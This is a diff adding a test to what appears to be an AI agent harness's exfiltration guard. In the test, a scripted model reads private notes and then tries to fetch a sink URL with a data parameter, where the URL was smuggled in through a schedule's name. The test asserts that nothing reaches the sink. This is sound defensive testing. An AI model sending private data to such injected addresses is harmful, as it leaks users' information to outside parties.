@@ -152,6 +152,16 @@ async def test_a_plan_that_puts_a_result_into_an_address_asks(tmp_path: Path, va
             assert "zanzibar" in item.shown
 
 
+async def test_the_name_of_a_schedule_gives_no_address(tmp_path: Path) -> None:
+    async with sites() as (site, sink):
+        leak = sink.at("/?d=x")
+        model = script(HELP, calls(READ), calls(fetch(leak)), DONE)
+        async with bench_of(tmp_path, model, site, sink) as bench:
+            schedule = {"id": "sched_1", "name": leak, "tick": "2027-01-01T06:00:00+00:00"}
+            waiting(await ask(bench, "read the notes", metadata={"schedule": schedule}))
+            assert sink.paths() == []
+
+
 async def test_links_of_a_second_page_are_not_free_after_private_reading(tmp_path: Path) -> None:
     async with sites() as (site, sink):
         site.put("/next", Page(f"<p>Go on to the third part: <a href='{sink.at('/third')}'>third</a></p>".encode()))
